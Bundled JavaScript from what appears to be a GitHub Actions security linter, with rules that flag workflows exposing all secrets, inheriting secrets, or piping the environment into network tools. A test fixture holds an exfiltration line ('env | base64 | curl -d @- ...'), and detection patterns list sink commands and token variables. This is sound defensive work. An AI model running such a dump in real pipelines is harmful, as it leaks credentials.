const program_dump_sinks = /\b(urlopen|Request|b64encode|b32encode|b85encode|hexlify|sendall|sendmail|sendto|storbinary|put_object|upload_file|fetch|btoa|axios|undici|ToBase64String|UploadString|UploadData|PostAsync|invoke-webrequest|invoke-restmethod|iwr|irm|curl|wget|post|put|patch|send|encode64|strict_encode64|base64|base64_encode|file_get_contents|HTTP|getaddrinfo|gethostbyname)\b/i;
const sendingCalls = /[.:>](?:post|put|patch|send|request)\s{0,3}\(/i;
const starting = /\b(?:spawn\w*|exec\w*|subprocess|Popen|run|call|check_(?:call|output)|start-process)\b/i;
const handedToProgram = /(?<=[{(,\s])env\s{0,3}[=:]\s{0,3}(?:dict\(|\{\s{0,9}(?:\*\*|\.\.\.))?\s{0,3}[\w.]{1,60}(?:\.copy\(\))?/g;
const maxNames = 500;
function programDumps(script) {
    if (!program_dump_environments.some(([, pattern]) => pattern.test(script)))
        return [];
    const names = new Map();
    for (const statement of statementsOf(script)) {
        const text = withoutHandedOn(statement);
        const own = program_dump_environments.find(([, pattern]) => pattern.test(text))?.[0];
        const dump = own ?? wordsOf(text).flatMap((word) => names.get(word) ?? [])[0];
        if (dump === undefined)
            continue;
        const sink = sendingCalls.exec(text)?.[0].replace(/[^a-z]/gi, '') ?? sinkIn(text);
        if (sink !== undefined)
            return [{ dump, sink, span: statement.span }];
        for (const name of namesBoundIn(text))
            if (names.size < maxNames)
                names.set(name, dump);
    }
    return [];
}
function sinkIn(text) {
    const name = program_dump_sinks.exec(text)?.[1];
    return name === undefined || /^(?:post|put|patch|send)$/i.test(name) ? undefined : name;
}
function withoutHandedOn({ text }) {
    return starting.test(text) ? text.replace(handedToProgram, '') : text;
}
function wordsOf(text) {
    return [...text.matchAll(/[A-Za-z_]\w{0,99}/g)].map(([word]) => word);
}
function namesBoundIn(text) {
    const bound = [
        /^\s{0,200}(?:(?:const|let|var|my|export)\s{1,9})?[$@%]?(?:global:|script:)?([A-Za-z_]\w{0,99})\s{0,9}(?::[^=\n]{0,60})?\+?=(?!=)/.exec(text)?.[1],
        /\bfor(?:each)?\b\s{0,9}\(?\s{0,9}(?:(?:const|let|var)\s{1,9})?[[(]?([\w$, ]{1,100}?)[\])]?\s{1,9}(?:in|of)\b/i.exec(text)?.[1],
        /\bas\s{1,9}([A-Za-z_]\w{0,99})/.exec(text)?.[1],
        /(?:%|foreach-object)\s{0,9}\{/i.test(text) ? '_' : undefined,
    ];
    return bound.flatMap((names) => (names === undefined ? [] : wordsOf(names)));
}

;// CONCATENATED MODULE: ./build/src/rules/support/sink-index.js

const maxAround = 40;
const sink_index_maxPipe = 10;
function sinkIndex(commands, script) {
    const last = new Map();
    const before = new Map();
    const behind = new Map();
    for (const command of commands) {
        const feeding = last.get(command.pipeline);
        if (feeding !== undefined) {
            before.set(command, feeding);
            behind.set(feeding, command);
        }
        last.set(command.pipeline, command);
    }
    const sinks = commands.flatMap((command, place) => sinkOf(command, place, chain(command, before).toReversed()));
    const loops = commands
        .map((command, place) => ({ command, place }))
        .filter(({ command }) => /^(?:while|until|for)$/.test(command.words[0]?.text ?? ''));
    const enclosing = enclosingOf(commands);
    return {
        script,
        sinks,
        around: (command) => enclosing.get(command) ?? [],
        pipe: (command) => chain(command, behind),
        lastSink: new Map(sinks.map((sink) => [sink.command.pipeline, sink])),
        lastLoop: new Map(loops.map((loop) => [loop.command.pipeline, loop])),
        byStart: new Map(commands.map((command) => [command.span.start, command])),
        ends: commands.flatMap(({ words }, index) => (words[0]?.text === 'done' ? [index] : [])),
    };
}
function chain(command, next) {
    const found = [];
    for (let one = command; one !== undefined && found.length <= sink_index_maxPipe; one = next.get(one))
        found.push(one);
    return found;
}
function sinkOf(command, place, feeding) {
    const name = sinkName(command);
    if (name === undefined)
        return [];
    const words = feeding.flatMap((item) => [
        ...item.words,
        ...item.redirects.filter(({ operator }) => operator.startsWith('<')).map(({ target }) => target),
    ]);
    const pipeStart = Math.min(...feeding.map(({ span }) => span.start));
    return [{ name, command, place, pipeStart, text: words.map(({ text }) => text).join(' ') }];
}
function enclosingOf(commands) {
    const found = new Map();
    const open = [];
    for (const command of commands) {
        for (let last = open.at(-1); last !== undefined && last.span.end <= command.span.start; last = open.at(-1))
            open.pop();
        const around = open.slice(-maxAround).filter(({ span }) => span.end >= command.span.end);
        if (around.length > 0)
            found.set(command, around);
        open.push(command);
    }
    return found;
}
function sinkBehind(dump, name, index) {
    if (/^@?\/proc\//.test(name)) {
        const own = sinkName(dump);
        if (own !== undefined)
            return own;
    }
    const around = index.around(dump);
    const behindGroup = groupTaker(dump, index);
    const candidates = [...around, ...(behindGroup === undefined ? [] : [behindGroup])];
    for (const command of [dump, ...candidates]) {
        const piped = index.lastSink.get(command.pipeline);
        if (piped !== undefined && piped.command.span.start >= command.span.end)
            return piped.name;
        const loop = index.lastLoop.get(command.pipeline);
        const inLoop = loop === undefined ? undefined : sinkInLoop(loop, index);
        if (inLoop !== undefined && (command !== dump || loop?.command !== dump))
            return inLoop;
    }
    return candidates.map(sinkName).find((name) => name !== undefined);
}
function groupTaker(dump, { script, byStart }) {
    const group = /^[^|({]*[)}]\s*\|\s*/.exec(script.slice(dump.span.end, dump.span.end + 500))?.[0];
    return group === undefined ? undefined : byStart.get(dump.span.end + group.length);
}
function sinkInLoop({ place }, { ends, sinks }) {
    const end = ends[firstAtLeast(ends, place, (value) => value)] ?? Number.POSITIVE_INFINITY;
    const sink = sinks[firstAtLeast(sinks, place, (one) => one.place)];
    return sink !== undefined && sink.place <= end ? sink.name : undefined;
}
function firstAtLeast(items, value, key) {
    let low = 0;
    let high = items.length;
    while (low < high) {
        const middle = (low + high) >> 1;
        const item = items[middle];
        if (item !== undefined && key(item) < value)
            low = middle + 1;
        else
            high = middle;
    }
    return low;
}

;// CONCATENATED MODULE: ./build/src/rules/support/environment-dump.js







const maxFiles = 500;
function environmentDumps(steps) {
    const byCommands = commandDumps(steps);
    const found = new Set(byCommands.map(({ step }) => step));
    return [...byCommands, ...steps.filter((step) => !found.has(step)).flatMap(programDumpsOf)];
}
function programDumpsOf(step) {
    const script = scriptOf(step);
    return script === undefined ? [] : programDumps(script.value).map((one) => ({ step, script, ...one }));
}
function scriptOf(step) {
    if (step.kind === 'run')
        return step.run;
    if (step.kind !== 'uses' || !/^actions\/github-script@/i.test(step.uses.scalar.value))
        return undefined;
    const script = (0,workflow_callers/* valueOf */.RP)(step.with, 'script');
    return script?.kind === 'scalar' ? script : undefined;
}
function commandDumps(steps) {
    const dumps = steps.flatMap((step, index) => (step.kind === 'run' ? dumpsOf(step, index) : []));
    if (dumps.length === 0)
        return [];
    const scripts = new Map();
    const indexOf = (step) => {
        const found = scripts.get(step) ?? sinkIndex((0,run_commands/* runCommands */.a)(step.run), step.run.value);
        scripts.set(step, found);
        return found;
    };
    const lastTaker = takers(steps, indexOf);
    return dumps.flatMap(({ step, index, dump, command }) => {
        const script = indexOf(step);
        const direct = sinkBehind(command, dump, script);
        const names = direct === undefined ? environment_dump_namesOf(command, script) : [];
        const taker = names.map(lastTaker).find((last) => last !== undefined && isAfter(last, index, command));
        const sink = direct ?? taker?.name;
        return sink === undefined ? [] : [{ step, script: step.run, dump, sink, span: command.span }];
    });
}
function dumpsOf(step, index) {
    return (0,run_commands/* runCommands */.a)(step.run).flatMap((command) => {
        const dump = dumpName(command);
        return dump === undefined ? [] : [{ step, index, dump, command }];
    });
}
function isAfter(taker, index, command) {
    return taker.index > index || (taker.index === index && taker.start >= command.span.end);
}
function takers(steps, indexOf) {
    const all = steps.flatMap((step, index) => {
        if (step.kind === 'run')
            return indexOf(step).sinks.map((sink) => takerOf(sink, index));
        const upload = uploadOf(step);
        return upload === undefined ? [] : [{ index, start: 0, ...upload }];
    });
    const known = new Map();
    return (name) => {
        if (known.has(name))
            return known.get(name);
        if (known.size >= maxFiles)
            return { index: steps.length, start: 0, name: 'more files than can be followed', text: '' };
        const found = all.findLast(({ text }) => text.includes(name));
        known.set(name, found);
        return found;
    };
}
function takerOf(sink, index) {
    return { index, start: sink.pipeStart, name: sink.name, text: sink.text.replace(/\$\{(\w+)\}/g, '$$$1') };
}
function environment_dump_namesOf(dump, script) {
    const variables = script
        .around(dump)
        .flatMap(({ assignments }) => assignments
        .filter(({ value }) => value.span.start < dump.span.start && dump.span.end <= value.span.end)
        .map(({ name }) => `$${name}`));
    const files = environment_dump_filesOf(script.pipe(dump)).map((file) => file.slice(file.lastIndexOf('/') + 1).replace(/^\$\{?(\w+)\}?$/, '$$$1'));
    return [...variables, ...files].filter((name) => name.length > 0);
}
function environment_dump_filesOf(pipe) {
    return pipe.flatMap((command) => {
        const program = (0,shell/* programOf */.o)(command);
        const targets = command.redirects
            .filter(({ operator }) => operator.includes('>') && operator !== '>&')
            .map(({ target }) => target.text);
        const tee = program !== undefined && /^(?:tee|out-file|set-content)$/i.test(program.name) ? program.arguments.map(({ text }) => text) : [];
        return [...targets, ...tee].filter((text) => /[A-Za-z]/.test(text) && !/^-|^\/dev\/|GITHUB_(?:ENV|OUTPUT|PATH|STEP_SUMMARY)/.test(text));
    });
}
function uploadOf(step) {
    if (step.kind !== 'uses' || !/upload|release|cache|publish/i.test(step.uses.scalar.value))
        return undefined;
    const path = (0,workflow_callers/* valueOf */.RP)(step.with, 'path') ?? (0,workflow_callers/* valueOf */.RP)(step.with, 'files');
    return path?.kind === 'scalar' ? { name: nameOfUses(step.uses), text: path.value } : undefined;
}

;// CONCATENATED MODULE: ./build/src/rules/support/whole-secrets.js

function wholeSecretsIn(expression) {
    const parents = new Map();
    const contexts = [];
    (0,visit_expression/* visitExpression */.w)(expression, (node) => {
        for (const below of operands(node))
            parents.set(below, node);
        if (node.kind === 'context' && node.name.toLowerCase() === 'secrets')
            contexts.push(node);
    });
    return contexts.flatMap((context) => {
        const use = useOf(context, parents.get(context));
        return use === undefined ? [] : [use];
    });
}
function useOf(context, parent) {
    if (parent?.kind === 'property' && parent.object === context)
        return undefined;
    if (parent?.kind === 'index' && parent.object === context) {
        return parent.index.kind === 'literal' ? undefined : { how: 'computed', form: 'secrets[...]', span: parent.span };
    }
    if (parent?.kind === 'filter')
        return { how: 'all', form: 'secrets.*', span: parent.span };
    if (parent?.kind === 'call')
        return { how: 'all', form: `${whole_secrets_nameOf(parent.name)}(secrets)`, span: parent.span };
    return { how: 'all', form: 'secrets', span: context.span };
}
function whole_secrets_nameOf(name) {
    const known = ['toJSON', 'fromJSON', 'format', 'join', 'contains', 'startsWith', 'endsWith', 'hashFiles', 'case'];
    return known.find((item) => item.toLowerCase() === name.toLowerCase()) ?? name.slice(0, 40);
}
function operands(node) {
    switch (node.kind) {
        case 'property':
        case 'filter':
            return [node.object];
        case 'index':
            return [node.object, node.index];
        case 'call':
            return node.arguments;
        case 'not':
            return [node.operand];
        case 'binary':
            return [node.left, node.right];
        case 'error':
            return node.partial;
        case 'literal':
        case 'context':
            return [];
    }
}

;// CONCATENATED MODULE: ./build/src/rules/secret/bulk-exposure.js









/* harmony default export */ const bulk_exposure = ((0,define_rule/* defineRule */.K)({
    meta: {
        id: 'secret/bulk-exposure',
        title: 'A job names each secret that it uses, and never takes or sends out all of them',
        severity: 'high',
        lifecycle: 'stable',
        since: '0.1.0',
        stages: ['merge', 'deploy', 'posture'],
        presets: { recommended: 'deny', strict: 'deny' },
        unknown: { merge: 'deny', deploy: 'deny', posture: 'warn' },
        controls: [
            { framework: 'OWASP-NHI', id: 'NHI2:2025' },
            { framework: 'NIST-CSF', id: 'PR.AA-01' },
            { framework: 'NIST-CSF', id: 'PR.DS-01' },
            { framework: 'NIST-CSF', id: 'PR.PS-06' },
            { framework: 'NIST-800-207', id: 'T2' },
            { framework: 'NIST-800-207', id: 'T6' },
            { framework: 'OWASP-CICD', id: 'CICD-SEC-6' },
            { framework: 'SSDF', id: 'PS.1.1' },
            { framework: 'SSDF', id: 'PW.7' },
        ],
        rationale: 'The runner receives exactly the secrets that a job names; whoever takes all of them, or one by a computed name, makes it receive every ' +
            'secret of the repository, the organisation and the environment, for any program of the job to read. The worm Shai-Hulud (September ' +
            '2025) planted a workflow that sent `toJSON(secrets)` to a collector; its second wave wrote all secrets to actionsSecrets.json. A ' +
            'program that lists the environment into `curl` or `base64` does the same with what the job has, past the mask of the log.',
        remediation: 'Name each secret (`secrets.NAME`) in the `env` of the step that needs it; where a name depends on something, write one step or job for each.',
        messages: {
            all: '`{form}` hands over every secret of the repository, its organisation and its environment in {place}; name each one: `secrets.NAME`',
            computed: '`{form}` takes a secret whose name only the run knows in {place}, so that the runner receives all of them; name each one: `secrets.NAME`',
            dump: '`{form}` lists the whole environment with its secrets into `{sink}` in {place}; send only what is meant, by name',
        },
        examples: [
            {
                title: 'All secrets in one variable',
                files: {
                    '.github/workflows/ci.yml': `on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: ./deploy.sh
        env:
          ALL: \${{ toJson(Secrets) }}
          ONE: \${{ secrets[format('KEY_{0}', matrix.stage)] }}
      - run: env | base64 | curl -d @- https://example.com
`,
                },
                expect: [
                    { message: 'all', path: '.github/workflows/ci.yml', line: 8 },
                    { message: 'computed', path: '.github/workflows/ci.yml', line: 9 },
                    { message: 'dump', path: '.github/workflows/ci.yml', line: 10 },
                ],
            },
            {
                title: 'Secrets by name, and a listing for the log',
                files: {
                    '.github/workflows/ci.yml': `on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: ./deploy.sh
        env:
          KEY: \${{ secrets.DEPLOY_KEY }}
          OTHER: \${{ secrets['OTHER_KEY'] }}
      - run: env | sort
`,
                },
                expect: [],
            },
        ],
        options: {},
        key: ['form', 'place'],
    },
    needs: ['workflows', 'actions'],
    evaluate({ workflows, actions }) {
        return [...workflows.items, ...actions.items].flatMap((definition) => [
            ...exposures(definition),
            ...unread(definition),
            ...dumps(definition),
        ]);
    },
}));
function exposures(definition) {
    const { file } = definition;
    const mappers = new Map();
    return expressionsIn(definition).flatMap((placed) => wholeSecretsIn(placed.embedded.expression).map(({ how, form, span }) => {
        const mapper = mappers.get(placed.scalar) ?? (0,span_in_file/* spanMapper */.g)(file.text, placed.scalar);
        mappers.set(placed.scalar, mapper);
        return {
            kind: 'violation',
            message: how,
            data: { form, place: bulk_exposure_placeOf(placed), sink: '' },
            location: (0,locate/* locate */.x5)(file, mapper(span)),
            ...(how === 'computed' ? { severity: 'medium' } : {}),
        };
    }));
}
function unread(definition) {
    const { file } = definition;
    for (const placed of expressionsIn(definition)) {
        const { expression, inValue, span } = placed.embedded;
        if (expression.kind !== 'error' || !/secrets/i.test(placed.scalar.value.slice(inValue.start, inValue.end)))
            continue;
        const why = `it names secrets and cannot be read: ${expression.message}`;
        const remedy = 'Put the expression right, so that it can be judged.';
        return [(0,core_facts/* gap */.rQ)({ item: `an expression in ${bulk_exposure_placeOf(placed)}`, cause: 'invalid', why, remedy, location: (0,locate/* locate */.x5)(file, span) })];
    }
    return [];
}
function bulk_exposure_placeOf({ job, step }) {
    const name = step === undefined ? undefined : nameOfStep(step);
    if (job === undefined)
        return name === undefined ? 'the whole file' : `step ${name}`;
    return name === undefined ? `job \`${job.id.value}\`` : `job \`${job.id.value}\`, step ${name}`;
}
function nameOfStep(step) {
    const name = step.id?.value ?? step.name?.value ?? (step.kind === 'uses' ? nameOfUses(step.uses) : undefined);
    return name === undefined || name.includes('${{') ? undefined : `\`${name.replaceAll('`', "'").slice(0, 60)}\``;
}
function dumps(definition) {
    const groups = definition.kind === 'workflow'
        ? definition.jobs.map((job) => ({ job, steps: (0,walk/* stepsOfJob */.E5)(job) }))
        : [{ job: undefined, steps: (0,walk/* stepsOfAction */.VL)(definition) }];
    return groups.flatMap(({ job, steps }) => environmentDumps(steps).map(({ step, script, dump, sink, span }) => ({
        kind: 'violation',
        message: 'dump',
        data: { form: dump, place: bulk_exposure_placeOf(job === undefined ? { step } : { job, step }), sink },
        location: (0,locate/* locate */.x5)(definition.file, (0,span_in_file/* spanInFile */.U)(definition.file, script, span)),
        confidence: 'medium',
    })));
}

;// CONCATENATED MODULE: ./build/src/rules/support/secret-names.js



function secretNamesOf(expression) {
    const names = [];
    (0,visit_expression/* visitExpression */.w)(expression, (node) => {
        if (node.kind !== 'property' && node.kind !== 'index')
            return;
        const path = (0,context_path/* contextPath */.V)(node);
        const name = path?.length === 2 && path[0] === 'secrets' ? path[1] : undefined;
        if (name !== undefined && name.toLowerCase() !== 'github_token')
            names.push(name);
    });
    return names;
}
function secretNamesIn(workflow) {
    return [...new Set(expressionsIn(workflow).flatMap(({ embedded }) => secretNamesOf(embedded.expression)))].toSorted();
}

;// CONCATENATED MODULE: ./build/src/rules/secret/inherit.js




/* harmony default export */ const inherit = ((0,define_rule/* defineRule */.K)({
    meta: {
        id: 'secret/inherit',
        title: 'A called workflow receives the secrets that it needs, by name',
        severity: 'high',
        lifecycle: 'stable',
        since: '0.1.0',
        stages: ['merge', 'deploy', 'posture'],
        presets: { recommended: 'warn', strict: 'deny' },
        unknown: { merge: 'warn', deploy: 'warn', posture: 'warn' },
        controls: [
            { framework: 'OWASP-NHI', id: 'NHI2:2025' },
            { framework: 'OWASP-NHI', id: 'NHI5:2025' },
            { framework: 'NIST-CSF', id: 'PR.AA-01' },
            { framework: 'NIST-CSF', id: 'PR.PS-06' },
            { framework: 'NIST-800-207', id: 'T3' },
            { framework: 'OWASP-CICD', id: 'CICD-SEC-6' },
            { framework: 'SSDF', id: 'PS.1.1' },
        ],
        rationale: '`secrets: inherit` gives the called workflow every secret that the caller could use, today and in the future, whatever it needs. ' +
            'Whoever can change that workflow, or move the tag by which it is called, reads them all: in March 2025 the tags of ' +
            'tj-actions/changed-files and in March 2026 those of trivy-action were moved to code that collected secrets. Within one repository it ' +
            'hides from the reader which secret goes where; to another owner it hands over the keys.',
        remediation: 'Pass each secret by name: `secrets: {NAME: ${{ secrets.NAME }}}`, and declare it in the called workflow under `on.workflow_call.secrets`.',
        messages: {
            foreign: '`secrets: inherit` gives every secret to {callee}, which belongs to `{owner}`: whoever can change it there reads them all. Pass what it needs by name',
            own: '`secrets: inherit` gives every secret to {callee}: pass what it needs by name',
            unneeded: '`secrets: inherit` gives every secret to {callee}, which names none of them: leave it out',
            local: '`secrets: inherit` gives every secret to {callee}, which names {names}: pass those by name',
        },
        examples: [
            {
                title: "Another owner's workflow",
                files: {
                    '.github/workflows/ci.yml': `on: push
jobs:
  release:
    uses: acme/pipelines/.github/workflows/release.yml@v1
    secrets: inherit
`,
                },
                expect: [{ message: 'own', path: '.github/workflows/ci.yml', line: 5 }],
            },
            {
                title: 'One secret by name',
                files: {
                    '.github/workflows/ci.yml': `on: push
jobs:
  release:
    uses: acme/pipelines/.github/workflows/release.yml@v1
    secrets:
      token: \${{ secrets.RELEASE_TOKEN }}
`,
                },
                expect: [],
            },
        ],
        options: {},
        key: ['job', 'callee'],
    },
    needs: ['workflows', 'scene'],
    evaluate({ workflows, scene }) {
        const owner = scene.repository?.split('/')[0];
        const byPath = new Map(workflows.items.map((workflow) => [workflow.file.path, workflow]));
        return workflows.items.flatMap((workflow) => workflow.jobs.flatMap((job) => {
            if (job.kind !== 'call' || !('span' in job.secrets))
                return [];
            return [inherit_violation(workflow, job, job.secrets, byPath, owner)];
        }));
    },
}));
function inherit_violation(workflow, job, inherit, byPath, owner) {
    const callee = job.uses.scalar.value.slice(0, 200);
    const base = { kind: 'violation', location: (0,locate/* locate */.x5)(workflow.file, inherit.alias ?? inherit.span) };
    const data = { job: job.id.value, callee: `\`${callee}\`` };
    const target = job.uses.target;
    if (target.kind === 'local' || target.kind === 'self') {
        const called = byPath.get((0,workflow_callers/* placeOfUse */.ct)(workflow.file, target.path));
        return { ...base, severity: 'low', ...ofLocal(called, data) };
    }
    const other = target.kind === 'repository' ? target.owner : undefined;
    if (owner === undefined || other === undefined || other.toLowerCase() === owner.toLowerCase()) {
        return { ...base, message: 'own', severity: 'medium', data };
    }
    return { ...base, message: 'foreign', severity: 'high', data: { ...data, owner: other } };
}
function ofLocal(called, data) {
    if (called === undefined || called.jobs.some((job) => job.kind === 'call' && 'span' in job.secrets))
        return { message: 'own', data };
    const names = secretNamesIn(called);
    if (names.length === 0)
        return { message: 'unneeded', data };
    return { message: 'local', data: { ...data, names: names.map((name) => `\`${name}\``).join(', ') } };
}

;// CONCATENATED MODULE: ./build/src/workflow/printed-lines.js

const printers = /^(?:echo|printf|print|write-output|write-host|add-content|set-content|out-file)$/i;
function printedLines(command, script) {
    const bodies = command.redirects.flatMap(({ body }) => (body === undefined ? [] : script.slice(body.start, body.end).split('\n')));
    const strings = command.redirects.filter(({ operator }) => operator === '<<<').map(({ target }) => target.text);
    return [...written(command), ...strings, ...bodies].flatMap((text) => text.split(/\n|\\n/));
}
function isPrinter(command) {
    const name = (0,shell/* programOf */.o)(command)?.name ?? '';
    return printers.test(name) || /^(?:cat|tee)$/.test(name);
}
function written(command) {
    const texts = command.words.map(({ text }) => text);
    const program = (0,shell/* programOf */.o)(command);
    if (program?.name !== 'printf')
        return texts;
    const [format = '', ...values] = program.arguments.map(({ text }) => text).filter((text) => text !== '--');
    let next = 0;
    const rounds = Math.max(1, Math.ceil(values.length / Math.max(1, places(format))));
    const text = format.repeat(Math.min(rounds, printed_lines_maxRounds)).replace(/%[sbq]/g, () => values[next++] ?? '');
    return [text];
}
const printed_lines_maxRounds = 20;
function places(format) {
    return format.match(/%[sbq]/g)?.length ?? 0;
}

// EXTERNAL MODULE: ./build/src/workflow/value-source.js
var value_source = __webpack_require__(69998);
;// CONCATENATED MODULE: ./build/src/data/publish-tokens.js
const publishTokens = {
    asOf: '2026-09-01',
    registries: [
        {
            name: 'npm',
            federated: 'name this workflow as trusted publisher of the package, give the job `permissions: {id-token: write}`, and publish without a token with npm 11.5.1 or later',
            host: /(?:^|\.)npmjs\.(?:org|com)$/i,
            commands: [
                'npm publish',
                'pnpm publish',
                'yarn publish',
                'bun publish',
                'lerna publish',
                'nx release',
                'changeset publish',
                '@changesets/cli publish',
                'semantic-release',
                'release-it',
                'auto shipit',
                'np',
            ],
            tokenOptions: ['--token'],
            registryOptions: ['--registry'],
            variables: [
                'NODE_AUTH_TOKEN',
                'NPM_TOKEN',
                'NPM_AUTH_TOKEN',
                'NPM_PUBLISH_TOKEN',
                'NPM_ACCESS_TOKEN',
                'NPM_CONFIG_TOKEN',
                'NPM_CONFIG__AUTHTOKEN',
                'YARN_NPM_AUTH_TOKEN',
            ],
            registryVariables: ['NPM_CONFIG_REGISTRY', 'YARN_NPM_REGISTRY_SERVER', 'YARN_NPM_PUBLISH_REGISTRY'],
            settings: ['_authToken', ':_password', '_auth=', 'npmAuthToken'],
            files: [],
            actions: [
                { action: 'js-devtools/npm-publish', inputs: ['token'], registryInputs: ['registry'] },
                { action: 'changesets/action', inputs: [], registryInputs: [], needs: 'publish' },
                { action: 'changesets/action/publish', inputs: [], registryInputs: [] },
                { action: 'slsa-framework/slsa-github-generator/actions/nodejs/publish', inputs: ['node-auth-token'], registryInputs: [] },
                { action: 'cycjimmy/semantic-release-action', inputs: [], registryInputs: [] },
                { action: 'codfish/semantic-release-action', inputs: [], registryInputs: [] },
                { action: 'pascalgn/npm-publish-action', inputs: [], registryInputs: [] },
                { action: 'mikeal/merge-release', inputs: [], registryInputs: [] },
            ],
        },
        {
            name: 'PyPI',
            federated: 'name this workflow as trusted publisher of the project, and use pypa/gh-action-pypi-publish without `password` in a job with `permissions: {id-token: write}` and an `environment`',
            host: /^(?:www\.|upload\.)?pypi\.org$/i,
            commands: [
                'twine upload',
                'uv publish',
                'poetry publish',
                'hatch publish',
                'flit publish',
                'pdm publish',
                'rye publish',
                'maturin publish',
                'maturin upload',
            ],
            tokenOptions: ['-p', '--password', '--token', '-t', '-a', '--auth'],
            registryOptions: ['--repository-url', '-r', '--repository', '--publish-url', '--index', '--repository-name'],
            variables: [
                'TWINE_PASSWORD',
                'UV_PUBLISH_TOKEN',
                'UV_PUBLISH_PASSWORD',
                'POETRY_PYPI_TOKEN_PYPI',
                'POETRY_HTTP_BASIC_PYPI_PASSWORD',
                'HATCH_INDEX_AUTH',
                'FLIT_PASSWORD',
                'PDM_PUBLISH_PASSWORD',
                'RYE_TOKEN',
                'MATURIN_PYPI_TOKEN',
                'MATURIN_PASSWORD',
                'PYPI_TOKEN',
                'PYPI_API_TOKEN',
                'PYPI_PASSWORD',
            ],
            registryVariables: [
                'TWINE_REPOSITORY_URL',
                'TWINE_REPOSITORY',
                'UV_PUBLISH_URL',
                'HATCH_INDEX_REPO',
                'FLIT_INDEX_URL',
                'PDM_PUBLISH_REPO',
                'MATURIN_REPOSITORY',
                'MATURIN_REPOSITORY_URL',
            ],
            settings: ['pypi-token.pypi', 'http-basic.pypi'],
            files: ['.pypirc'],
            actions: [
                { action: 'pypa/gh-action-pypi-publish', inputs: ['password'], registryInputs: ['repository-url', 'repository_url'] },
                { action: 'jrubics/poetry-publish', inputs: ['pypi_token'], registryInputs: ['repository_url'] },
                { action: 'casperdcl/deploy-pypi', inputs: ['password'], registryInputs: ['repository_url', 'repository-url'] },
                { action: 'etils-actions/pypi-auto-publish', inputs: ['pypi-token'], registryInputs: [] },
            ],
        },
        {
            name: 'RubyGems',
            federated: 'name this workflow as trusted publisher of the gem, and use rubygems/release-gem (or rubygems/configure-rubygems-credentials with `role-to-assume`) in a job with `permissions: {id-token: write}`',
            host: /^(?:www\.)?rubygems\.org$/i,
            commands: ['gem push', 'rake release', 'gem-release', 'gem release'],
            tokenOptions: [],
            registryOptions: ['--host'],
            variables: ['GEM_HOST_API_KEY', 'RUBYGEMS_API_KEY', 'RUBYGEMS_AUTH_TOKEN', 'RUBYGEMS_TOKEN'],
            registryVariables: ['RUBYGEMS_HOST', 'GEM_HOST'],
            settings: [':rubygems_api_key', ':rubygems'],
            files: ['.gem/credentials'],
            actions: [
                { action: 'rubygems/configure-rubygems-credentials', inputs: ['api-token'], registryInputs: ['gem-server'] },
                { action: 'rubygems/release-gem', inputs: [], registryInputs: [] },
                { action: 'dawidd6/action-publish-gem', inputs: ['api_key'], registryInputs: [] },
                { action: 'cadwallion/publish-rubygems-action', inputs: [], registryInputs: [] },
            ],
        },
        {
            name: 'crates.io',
            federated: 'name this workflow as trusted publisher of the crate, and give `CARGO_REGISTRY_TOKEN` the output `token` of rust-lang/crates-io-auth-action, in a job with `permissions: {id-token: write}`',
            host: /(?:^|\.)crates\.io$|^crates-io$/i,
            commands: ['cargo publish', 'cargo release', 'cargo-release', 'cargo workspaces publish', 'cargo ws publish', 'release-plz release'],
            tokenOptions: ['--token'],
            registryOptions: ['--registry', '--index'],
            variables: ['CARGO_REGISTRY_TOKEN', 'CARGO_TOKEN', 'CRATES_TOKEN', 'CRATES_IO_TOKEN'],
            registryVariables: ['CARGO_REGISTRY_DEFAULT', 'CARGO_REGISTRY_INDEX'],
            settings: ['registry.token', 'registry.global-credential'],
            files: ['.cargo/credentials'],
            actions: [
                { action: 'katyo/publish-crates', inputs: ['registry-token'], registryInputs: [] },
                { action: 'release-plz/action', inputs: [], registryInputs: [] },
                { action: 'marcoieni/release-plz-action', inputs: [], registryInputs: [] },
            ],
        },
        {
            name: 'NuGet',
            federated: 'add a trusted publishing policy for this workflow, and push with the output `NUGET_API_KEY` of NuGet/login, in a job with `permissions: {id-token: write}`',
            host: /(?:^|\.)nuget\.org$/i,
            commands: ['dotnet nuget push', 'nuget push', 'nuget.exe push'],
            tokenOptions: ['-k', '--api-key', '-ApiKey', '-apikey', '--apiKey'],
            registryOptions: ['-s', '--source', '-Source', '-source', '-src'],
            variables: ['NUGET_API_KEY', 'NUGET_KEY', 'NUGET_TOKEN', 'NUGET_AUTH_TOKEN'],
            registryVariables: [],
            settings: ['setapikey', 'setApiKey'],
            files: [],
            actions: [
                { action: 'brandedoutcast/publish-nuget', inputs: ['nuget_key'], registryInputs: ['nuget_source'] },
                { action: 'alirezanet/publish-nuget', inputs: ['nuget_key'], registryInputs: ['nuget_source'] },
                { action: 'rohith/publish-nuget', inputs: ['nuget_key'], registryInputs: ['nuget_source'] },
                { action: 'nuget/setup-nuget', inputs: ['nuget-api-key'], registryInputs: ['nuget-api-key-source'] },
            ],
        },
    ],
};

;// CONCATENATED MODULE: ./build/src/rules/support/publishing.js







function publishingsOf(step, scope) {
    if (step.kind === 'uses')
        return publishTokens.registries.flatMap((registry) => byAction(registry, step, scope));
    if (step.kind !== 'run')
        return [];
    const script = { ...scope, isScript: true, script: step.run };
    const uploads = uploadsOf(step);
    const found = publishTokens.registries.flatMap((registry) => byCommand(registry, uploads, script));
    return found.length > 0 ? found : guessed(step);
}
function byAction(registry, step, scope) {
    const { target } = step.uses;
    if (target.kind !== 'repository')
        return [];
    const slug = [target.owner, target.name, target.path]
        .filter((part) => part !== '')
        .join('/')
        .toLowerCase();
    const row = registry.actions.find(({ action }) => action === slug);
    if (row === undefined || (row.needs !== undefined && (0,workflow_callers/* valueOf */.RP)(step.with, row.needs) === undefined))
        return [];
    const elsewhere = row.registryInputs.some((input) => publishing_isOther(registry, textOf(step.with, input), scope));
    if (elsewhere || isElsewhere(registry, scope))
        return [];
    const tokens = row.inputs.flatMap((input) => {
        const named = step.with.findLast(({ name }) => name.value.toLowerCase() === input);
        return named?.value.kind === 'scalar' ? [{ text: named.value.value, place: input, named }] : [];
    });
    return [{ registry, by: slug, scalar: step.uses.scalar, tokens, isGuess: false }];
}
function textOf(named, input) {
    const value = (0,workflow_callers/* valueOf */.RP)(named, input);
    return value?.kind === 'scalar' ? value.value : '';
}
const uploaders = new Set(publishTokens.registries.flatMap(({ commands }) => commands.map((text) => text.split(' ')[0])));
function uploadsOf(step) {
    return (0,run_commands/* runCommands */.a)(step.run).flatMap((command) => {
